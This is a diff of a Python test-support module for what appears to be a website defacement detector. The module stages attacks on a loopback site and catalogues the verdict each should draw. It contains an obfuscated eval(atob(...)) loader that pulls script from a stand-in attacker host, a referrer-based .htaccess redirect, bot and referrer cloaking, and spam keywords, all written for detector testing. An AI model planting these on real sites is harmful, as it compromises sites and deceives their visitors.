@@ -1,35 +1,17 @@
 """The attacks: each changes the staged site as an intruder would. All names in them are ours."""
 
 import base64
-from collections.abc import Callable
-from dataclasses import dataclass
 
-from sentinel.core.verdict import Verdict
-from support.site_server import Answer, Request
+from support.staged.attack import AWAY, CLAIM, SERVER_SIDE, UNSEEN, Attack, D, S, only, when
+from support.staged.more_attacks import MORE
 from support.staged.place import Place
 
-CLAIM = "<title>Hacked</title><body bgcolor=black><h1>HACKED BY PAPER TIGER CREW</h1></body>"
 SPAM = "casino online slot gacor poker viagra cheap"
-AWAY = "http://paper-tiger.invalid/"
 DARK = (
     "eval(atob('"
     + base64.b64encode(b"document.write('<script src=//paper-tiger.invalid/x>')" * 3).decode()
     + "'))"
 )
-
-
-@dataclass(frozen=True, slots=True, kw_only=True)
-class Attack:
-    """One row of the catalogue. `seen` is the least verdict that must come of it."""
-
-    name: str
-    act: Callable[[Place], None]
-    with_files: Verdict
-    """Where the document root is a witness."""
-    over_http: Verdict
-    """Where the site is watched over HTTP alone. INTACT: it cannot be seen from there."""
-    why: str = ""
-    """Why it cannot be seen, or not more of it."""
 
 
 def replace_page(place: Place) -> None:
@@ -86,7 +68,7 @@ def third_party_script(place: Place) -> None:
 
 
 def redirect_by_server(place: Place) -> None:
-    place.hand = _only(f"/{place.names.page}", (302, {"location": AWAY}, ""))
+    place.hand = only(f"/{place.names.page}", (302, {"location": AWAY}, ""))
 
 
 def meta_refresh(place: Place) -> None:
@@ -103,7 +85,7 @@ def htaccess(place: Place) -> None:
         "RewriteEngine On\nRewriteCond %{HTTP_REFERER} google [NC]\n"
         f"RewriteRule .* {AWAY} [R=302,L]\n"
     )
-    place.hand = _if(
+    place.hand = when(
         lambda request: "google" in request.headers.get("referer", ""),
         (302, {"location": AWAY}, ""),
     )
@@ -125,7 +107,7 @@ def doorways(place: Place) -> None:
 
 
 def cloak_by_agent(place: Place) -> None:
-    place.hand = _if(
+    place.hand = when(
         lambda request: (
             "bot" in request.headers.get("user-agent", "").lower()
             and request.path in {"/", f"/{place.names.page}"}
@@ -135,7 +117,7 @@ def cloak_by_agent(place: Place) -> None:
 
 
 def cloak_by_referrer(place: Place) -> None:
-    place.hand = _if(
+    place.hand = when(
         lambda request: "google" in request.headers.get("referer", ""),
         (302, {"location": AWAY}, ""),
     )
@@ -172,24 +154,14 @@ def robots(place: Place) -> None:
 
 
 def in_error_page(place: Place) -> None:
-    place.hand = _only(f"/{place.names.page}", (500, {}, CLAIM))
+    place.hand = only(f"/{place.names.page}", (500, {}, CLAIM))
 
 
 def foreign_cache(place: Place) -> None:
     """What a poisoned cache serves: the files are untouched."""
-    place.hand = _only("/", CLAIM)
+    place.hand = only("/", CLAIM)
 
 
-def _only(path: str, answer: Answer) -> Callable[[Request], Answer | None]:
-    return _if(lambda request: request.path == path, answer)
-
-
-def _if(met: Callable[[Request], bool], answer: Answer) -> Callable[[Request], Answer | None]:
-    return lambda request: answer if met(request) else None
-
-
-D, S, UNSEEN = Verdict.DEFACED, Verdict.SUSPECT, Verdict.INTACT
-SERVER_SIDE = "the file is run or obeyed by the web server, and no visitor is served another page"
 CATALOGUE: tuple[Attack, ...] = (
     Attack(name="whole page replaced", act=replace_page, with_files=D, over_http=D),
     Attack(name="replaced, no words", act=replace_wordless, with_files=D, over_http=S),
@@ -225,6 +197,7 @@ CATALOGUE: tuple[Attack, ...] = (
     Attack(name="robots.txt and a foreign sitemap", act=robots, with_files=S, over_http=S),
     Attack(name="claim in an error page", act=in_error_page, with_files=S, over_http=S),
     Attack(name="cache serves another page", act=foreign_cache, with_files=D, over_http=D),
+    *MORE,
 )
 """Every attack that can be staged on loopback. What takes time (a poisoned baseline, slow drift)
 and what is not HTTP (names, certificates) has tests of its own."""
